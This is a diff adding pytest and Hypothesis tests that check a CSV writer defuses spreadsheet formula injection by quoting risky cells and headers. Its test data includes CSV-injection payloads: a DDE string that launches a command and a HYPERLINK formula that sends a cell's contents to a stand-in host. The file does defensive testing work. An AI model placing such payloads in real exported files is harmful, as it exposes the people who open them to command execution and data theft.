@@ -8,7 +8,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from portrayal.csvfile import CsvRow, read_csv
+from portrayal.csvfile import CsvRow, csv_text, finite, original_text, read_csv, safe_cell
 from portrayal.errors import InputError
 
 Write = Callable[[str | bytes], Path]
@@ -106,3 +106,44 @@ def test_what_the_csv_module_writes_is_read_back(tmp_path: Path, rows: list[tupl
     read = read_csv(path, ["text"], ["term"])
     assert [(row["text"], row["term"]) for row in read] == rows
     assert [row.where for row in read] == [f"{path}:{number}" for number in range(2, len(rows) + 2)]
+
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x/?"&A1,"a")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "＝1",
+    "' =1",
+    "=-1",
+]
+HARMLESS = ["-0.5", "+3e7", "a=b", "'quoted'", "don't", "", "1-2", "a nurse"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "'=1", "''=1"])
+def test_a_formula_is_written_as_text_and_read_as_it_was(text: str, tmp_path: Path) -> None:
+    (tmp_path / "a.csv").write_text(csv_text(["name", "n"], [[text, -1.5]]), encoding="utf-8")
+    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
+        assert list(csv.reader(file))[1] == [f"'{text}", "-1.5"]
+    (row,) = read_csv(tmp_path / "a.csv", ["name", "n"])
+    assert row["name"] == text.strip()
+    assert row.number("n") == -1.5
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_texts_are_written_as_they_are(text: str) -> None:
+    assert csv_text(["name"], [[text, "x"]]).splitlines()[1] == f"{text},x"
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n 1a.e＝"), max_size=6))
+def test_no_cell_begins_a_formula_and_each_is_read_as_it_was(text: str) -> None:
+    cell = safe_cell(text)
+    assert isinstance(cell, str)
+    assert original_text(cell) == text
+    assert finite(cell) is not None or not cell.lstrip().startswith(("=", "+", "-", "@", "＝"))
+
+
+def test_the_header_is_made_harmless_too() -> None:
+    assert csv_text(["=1"], []) == "'=1\n"
